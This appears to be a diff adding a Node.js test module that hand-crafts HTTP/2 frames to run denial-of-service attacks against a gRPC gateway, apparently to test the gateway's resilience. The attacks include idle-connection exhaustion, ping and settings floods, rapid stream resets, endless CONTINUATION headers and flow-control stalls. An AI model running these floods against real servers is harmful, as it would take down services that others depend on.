@@ -1,0 +1,144 @@
+'use strict';
+// A hostile or broken caller, in a thread of its own (worker_threads): begins the attack that it is told, and goes on until
+// it is ended.
+
+const net = require('node:net');
+const {isMainThread, parentPort, workerData} = require('node:worker_threads');
+
+// ---- HTTP/2 by hand (RFC 9113), since no client library sends what is not allowed.
+
+const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9];
+const [END_STREAM, END_HEADERS] = [1, 4];
+
+function frame(type, flags, stream, payload = Buffer.alloc(0)) {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** HPACK: a header that is not to be indexed; `name` is a string, or its number in the static table (below 15). */
+function header(name, value) {
+  const text = string => Buffer.concat([Buffer.from([string.length]), Buffer.from(string)]);
+  return Buffer.concat([typeof name === 'number' ? Buffer.from([name]) : Buffer.concat([Buffer.from([0]), text(name)]), text(value)]);
+}
+
+const checkHealth = '/grpc.health.v1.Health/Check';
+/** The headers of an RPC: POST, http, the path, and what gRPC wants. */
+const rpcHeaders = path => Buffer.concat([
+  Buffer.from([0x83, 0x86]), header(4, path), header(1, 'gateway'), header('content-type', 'application/grpc'),
+  header('te', 'trailers')
+]);
+/** A message of gRPC's: whether it is compressed, and its length. */
+function messageHead(length, compressed = 0) {
+  const head = Buffer.alloc(5);
+  head[0] = compressed;
+  head.writeUInt32BE(length, 1);
+  return head;
+}
+function setting(id, value) {
+  const entry = Buffer.alloc(6);
+  entry.writeUInt16BE(id, 0);
+  entry.writeUInt32BE(value, 2);
+  return entry;
+}
+const hello = (settings = Buffer.alloc(0)) =>
+    Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0, settings)]);
+const noWindow = hello(setting(4, 0));
+
+/** A connection that minds nothing. It reads, unless told otherwise. */
+function connect(bytes, {reads = true} = {}) {
+  const [host, port] = workerData.address.split(':');
+  const socket = net.connect({host, port: Number(port)});
+  socket.on('error', () => {});
+  if (reads) socket.resume();
+  if (bytes) socket.write(bytes);
+  return socket;
+}
+const connected = socket => new Promise(resolve => socket.once('connect', resolve).once('close', resolve));
+const connectMany = (count, bytes, options) => Array.from({length: count}, () => connect(bytes, options));
+
+/** Sends `piece` again and again, as fast as it is taken, for as long as the attack lasts. */
+function pour(socket, piece) {
+  const more = () => {
+    while (!socket.destroyed && socket.write(piece));
+  };
+  socket.on('drain', more);
+  socket.on('connect', more);
+}
+
+
+const attacks = {
+  'connections left silent': () => connectMany(600),
+  'connections left in the middle of hello': () => connectMany(600, hello().subarray(0, 10)),
+  'connections reset in the middle of hello': () => {
+    const again = async () => {
+      const socket = connect(hello().subarray(0, 20));
+      await connected(socket);
+      socket.resetAndDestroy();
+      setImmediate(again);
+    };
+    for (let i = 0; i < 20; ++i) again();
+  },
+  'pings': () => connectMany(10, hello()).forEach(socket => pour(socket, Buffer.concat(Array(500).fill(frame(PING, 0, 0, Buffer.alloc(8)))))),
+  'settings, their answers unread': () => connectMany(10, hello(), {reads: false}).forEach(
+      socket => pour(socket, Buffer.concat(Array(500).fill(frame(SETTINGS, 0, 0, setting(4, 65535)))))),
+  'streams reset as soon as they are open': () => connectMany(10, hello()).forEach(socket => {
+    let stream = 1;
+    const block = rpcHeaders(checkHealth);
+    const cancel = Buffer.from([0, 0, 0, 8]);
+    const more = () => {
+      for (let room = true; room && !socket.destroyed && stream < 2 ** 31;) {
+        const burst = [];
+        for (let i = 0; i < 100; ++i, stream += 2) {
+          burst.push(frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, cancel));
+        }
+        room = socket.write(Buffer.concat(burst));
+      }
+    };
+    socket.on('drain', more);
+    socket.on('connect', more);
+  }),
+  'headers without end': () => connectMany(10, hello()).forEach(socket => {
+    socket.write(frame(HEADERS, 0, 1, rpcHeaders(checkHealth)));
+    pour(socket, frame(CONTINUATION, 0, 1, Buffer.concat(Array(100).fill(header('x', 'y'.repeat(120))))));
+  }),
+  'headers of 64 KiB': () => connectMany(10, hello()).forEach(socket => {
+    let stream = 1;
+    const block = Buffer.concat([rpcHeaders(checkHealth), ...Array(120).fill(header('x', 'y'.repeat(120)))]);
+    const more = () => {
+      let room = true;
+      for (; room && !socket.destroyed; stream += 2) {
+        room = socket.write(Buffer.concat([
+          frame(HEADERS, 0, stream, block),
+          ...Array(3).fill(frame(CONTINUATION, 0, stream, block.subarray(rpcHeaders(checkHealth).length))),
+          frame(CONTINUATION, END_HEADERS, stream)
+        ]));
+      }
+    };
+    socket.on('drain', more);
+    socket.on('connect', more);
+  }),
+  'calls without a message': () => connectMany(20, hello()).forEach(socket => {
+    for (let i = 0; i < 50; ++i) socket.write(frame(HEADERS, END_HEADERS, 2 * i + 1, rpcHeaders(checkHealth)));
+  }),
+  'answers that are not taken': () => connectMany(20, noWindow).forEach(socket => {
+    for (let i = 0; i < 50; ++i) {
+      socket.write(frame(HEADERS, END_HEADERS, 2 * i + 1, rpcHeaders(checkHealth)));
+      socket.write(frame(DATA, END_STREAM, 2 * i + 1, messageHead(0)));
+    }
+  }),
+  'messages of a gigabyte': () => connectMany(20, hello()).forEach(socket => {
+    socket.write(frame(HEADERS, END_HEADERS, 1, rpcHeaders(checkHealth)));
+    socket.write(frame(DATA, 0, 1, messageHead(1 << 30)));
+    pour(socket, frame(DATA, 0, 1, Buffer.alloc(16000)));
+  }),
+};
+
+module.exports = {attacks: Object.keys(attacks)};
+if (!isMainThread) {
+  attacks[workerData.attack]();
+  parentPort.postMessage('begun');
+}
